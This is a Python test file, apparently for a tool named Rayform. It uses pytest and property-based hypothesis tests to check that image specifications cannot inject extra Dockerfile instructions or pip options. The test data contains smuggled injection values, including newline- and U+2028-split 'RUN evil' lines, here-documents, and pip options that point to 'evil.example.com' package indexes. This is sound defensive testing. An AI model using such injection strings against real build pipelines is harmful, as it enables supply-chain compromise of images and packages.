"""No text of an image's specification ends its line in the Dockerfile, whatever the text and the field are."""

import json
import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from rayform_core.errors import UsageError
from rayform_runtime.images.build_context import ImagePlatform, plan_image
from rayform_runtime.spec import ImageSpec

INSTRUCTION = re.compile(r"(FROM|USER|RUN|COPY|ENV|LABEL) ")

# Everything that Docker, pip, a shell or Python takes for the end of a line or of a word.
BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\0"
texts = st.text(
    st.one_of(st.characters(codec="utf-8"), st.sampled_from(BREAKS + "\\\"'$`#<>{}[]*? ")), max_size=12
)
evil = st.builds(
    lambda a, b, c: a + b + c,
    texts,
    st.sampled_from([*BREAKS, "", "\\", "'", '"', "\r\n"]),
    st.sampled_from(["RUN evil", "\\\nRUN evil", "<<EOF\nRUN evil\nEOF", "# escape=`", ""]),
)
anything = st.one_of(texts, evil, evil.map(lambda t: "https://host/" + t), texts.map(lambda t: "/d/" + t))


def instructions(dockerfile):
    """Return the instructions as Docker reads them: one a line, a line that ends with the escape character goes on."""
    assert len(dockerfile.splitlines()) == dockerfile.count("\n"), "a line break that isn't Docker's own"
    lines = []
    for line in dockerfile.split("\n")[:-1]:
        assert not line.rstrip().endswith("\\")
        assert INSTRUCTION.match(line), line
        assert not (line.startswith(("RUN", "COPY")) and re.search(r"(^|\s)\d*<<-?\w", line)), (
            "a here-document"
        )
        lines.append(line)
    return lines


def variables(line):
    """Return the variables of an `ENV`, by Docker's rules for double quotes."""
    found, rest = {}, line.removeprefix("ENV ")
    while rest:
        match = re.match(r'([A-Za-z_]\w*)="((?:[^"\\$]|\\.)*)"( |$)', rest)
        assert match, rest
        found[match[1]] = re.sub(r"\\([\\\"$])", r"\1", match[2])
        rest = rest[match.end() :]
    return found


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.fixed_dictionaries(
        {},
        optional={
            "base_image": anything,
            "requirements": st.lists(anything, max_size=2),
            "apt_packages": st.lists(anything, max_size=2),
            "environment": st.dictionaries(
                st.one_of(anything, st.sampled_from(["A", "B_1"])), anything, max_size=2
            ),
            "files": st.dictionaries(anything, st.just("a.txt"), max_size=2),
            "index_url": anything,
            "extra_index_urls": st.lists(anything, max_size=2),
        },
    )
)
@example({"index_url": "https://x/simple\nRUN evil"})
@example({"requirements": ["numpy\n--index-url https://evil.example.com"]})
@example({"requirements": ["numpy\u2028--index-url https://evil.example.com"]})
@example({"environment": {"A": "1\rRUN evil"}})
@example({"files": {"/d/$HOME": "a.txt"}})
def test_a_specification_gives_only_the_instructions_that_rayform_writes(tmp_path, platform, spec):
    """Either the specification is refused, or the Dockerfile parses back into exactly what was asked for."""
    (tmp_path / "a.txt").write_text("")
    try:
        made = plan_image(
            ImageSpec(**spec), project=tmp_path, base_image="python:3.11-slim", platform=platform
        )
    except UsageError:
        return
    lines = instructions(made.dockerfile)
    assert sum(line.startswith("FROM ") for line in lines) == 1
    environment = spec.get("environment") or {}
    assert sum(line.startswith("ENV ") for line in lines) == bool(environment)
    if environment:
        assert variables(lines[-1]) == environment
    copied = [json.loads(line.removeprefix("COPY "))[1] for line in lines if line.startswith("COPY [")]
    assert copied == sorted(spec.get("files") or {})
    for name in ("image/requirements.txt", "image/constraints.txt"):
        if name in made.files:
            assert not any("index-url" in line for line in made.files[name].decode().splitlines())


@pytest.mark.parametrize("field", sorted(set(ImageSpec.model_fields) - {"build_args"}))
def test_each_field_of_a_specification_is_looked_at(tmp_path, platform, field):
    """A line break is refused in every field, also in one that is added later; the error names the field alone."""
    sample = {"environment": {"A": "x\ny"}, "files": {"/a\nb": "a.txt"}}.get(field)
    if sample is None:
        sample = ["x\ny"] if field in ("requirements", "apt_packages", "extra_index_urls") else "x\ny"
    with pytest.raises(UsageError, match=rf"'{field}.*has a line break") as refused:
        plan_image(
            ImageSpec(**{field: sample}), project=tmp_path, base_image="python:3.11-slim", platform=platform
        )
    assert "x\ny" not in str(refused.value)


@pytest.mark.parametrize(
    "line",
    [
        "--pre --index-url https://evil.example.com",
        "--no-binary :all: --extra-index-url https://evil.example.com",
        "--prefer-binary -r other.txt",
        "--only-binary=numpy -f https://evil.example.com",
    ],
)
def test_an_allowed_option_brings_no_other_one(tmp_path, platform, line):
    """pip reads several options from one line; only lines with one allowed option pass, from a list and a file."""
    (tmp_path / "reqs.txt").write_text(f"numpy\n{line}\n")
    for requirements in (["numpy", line], "reqs.txt"):
        spec = ImageSpec(requirements=requirements)
        with pytest.raises(UsageError, match="isn't allowed"):
            plan_image(spec, project=tmp_path, base_image="python:3.11-slim", platform=platform)
    for good in ("--pre", "--no-binary :all:", "--only-binary=numpy,scipy"):
        plan_image(
            ImageSpec(requirements=["numpy", good]), project=tmp_path, base_image="b", platform=platform
        )


def test_requirements_may_end_with_a_line_break(tmp_path, platform):
    """The lines of `open(...).readlines()` are requirements."""
    spec = ImageSpec(requirements=["numpy\n", "scipy\r\n"])
    made = plan_image(spec, project=tmp_path, base_image="python:3.11-slim", platform=platform)
    assert b"numpy\nscipy\n" in made.files["image/requirements.txt"]


def test_an_open_last_line_is_refused(tmp_path, platform):
    """A user's Dockerfile that ends in the middle of an instruction would swallow Rayform's first one."""
    (tmp_path / "Dockerfile").write_text("FROM python:3.11\nRUN true \\\n")
    with pytest.raises(UsageError, match="isn't complete"):
        plan_image(ImageSpec(dockerfile="Dockerfile"), project=tmp_path, base_image="b", platform=platform)


@pytest.mark.parametrize("version", ["", "2.60.0\nRUN evil", "2.60.0 x", "'; import os"])
def test_a_version_that_is_none_is_refused(platform, version):
    """What a head reports as its versions can't add an instruction either."""
    for versions in ((version, "3.11"), ("2.60.0", version)):
        with pytest.raises(UsageError, match="isn't a version"):
            ImagePlatform(*versions, platform.wheel)
